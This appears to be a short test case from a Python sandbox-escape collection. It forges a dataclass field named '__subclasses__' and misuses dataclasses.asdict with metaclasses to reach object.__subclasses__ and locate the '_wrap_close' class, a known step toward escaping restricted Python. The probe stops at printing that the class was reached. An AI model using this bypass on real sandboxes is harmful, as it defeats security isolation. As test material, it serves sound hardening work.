# attack: dataclasses.asdict reads whatever name a field has with the true getattr; the fields are forged, and the "instance" is a class
# family: attribute
import dataclasses
@dataclasses.dataclass
class Real:
    x: int = 0
forged = dataclasses.fields(Real)[0]
forged.name = "__sub" + "classes__"
class Above(type):
    __dataclass_fields__ = {"x": forged}
class Below(type, metaclass=Above):
    pass
subclasses = dataclasses.asdict(Below)["__subclasses__"]
found = [one for one in subclasses(object) if one.__name__ == "_wrap_close"]
print("REACHED", len(subclasses(object)), found)
